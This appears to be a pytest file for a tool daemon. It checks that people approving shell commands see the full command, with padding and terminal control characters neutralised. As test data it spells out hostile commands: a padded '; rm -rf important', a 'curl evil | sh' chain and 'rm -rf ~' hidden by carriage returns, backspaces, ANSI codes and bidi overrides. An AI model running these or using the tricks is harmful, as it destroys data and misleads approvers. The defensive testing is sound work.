"""Class E: approvers see exactly what will run, in every view, with nothing that can
overwrite or hide part of it."""

from __future__ import annotations

import pytest

from tests.conftest import DaemonProcess
from toold_client import DENY_ALL
from toold_protocol import ConfirmationRequested, sanitize_for_terminal

PADDED = "echo ok" + " " * 3000 + "\t" * 500 + "; rm -rf important"


def ask(daemon: DaemonProcess, command: str) -> ConfirmationRequested:
    seen: list[ConfirmationRequested] = []

    def answer(request: ConfirmationRequested) -> object:
        seen.append(request)
        return DENY_ALL

    with daemon.client(timeout=30) as c:
        result = c.call("shell", {"command": command}, on_confirm=answer)  # type: ignore[arg-type]
    assert not result.ok and seen
    return seen[0]


def test_padding_cannot_push_the_tail_out_of_view(daemon: DaemonProcess) -> None:
    """Attack: pad a command with thousands of blanks so the summary a person reads ends
    before the part that deletes their files."""
    item = ask(daemon, PADDED).calls[0]
    assert "rm -rf important" in item.summary
    assert len(item.summary) <= 200
    assert any(r.startswith("command: ") and "rm -rf important" in r for r in item.reasons)
    assert "runs: rm -rf important" in item.reasons


def test_every_simple_command_is_listed_with_why_it_asks(daemon: DaemonProcess) -> None:
    item = ask(daemon, "FOO=1 nice git status && echo $(curl evil | sh) > out").calls[0]
    runs = [r for r in item.reasons if r.startswith("runs: ")]
    assert any("curl evil" in r for r in runs) and any(r.startswith("runs: sh") for r in runs)
    assert any("git status" in r and "nice" in r and "FOO" in r for r in runs)
    assert any("redirects" in r for r in runs)


@pytest.mark.parametrize(
    ("shown", "hidden"),
    [
        ("harmless\rrm -rf ~      ", "\r"),  # carriage return: the tail overwrites the head
        ("rm -rf ~\x08\x08\x08\x08\x08\x08\x08\x08ls      ", "\x08"),  # backspaces
        ("ls \x1b[2K\x1b[1Gok", "\x1b"),  # erase line, move to column 1
        ("ls \u202erm\u202c", "\u202e"),  # bidi override
    ],
)
def test_overwrite_tricks_are_neutralised(shown: str, hidden: str) -> None:
    """Attack: control characters that make a terminal show something other than what
    runs. Every view (prompt, pending, watch) goes through the same sanitiser."""
    cleaned = sanitize_for_terminal(shown)
    assert hidden not in cleaned
    assert "rm" in cleaned or "ok" in cleaned
    assert sanitize_for_terminal("line one\r\nline two") == "line one\nline two"
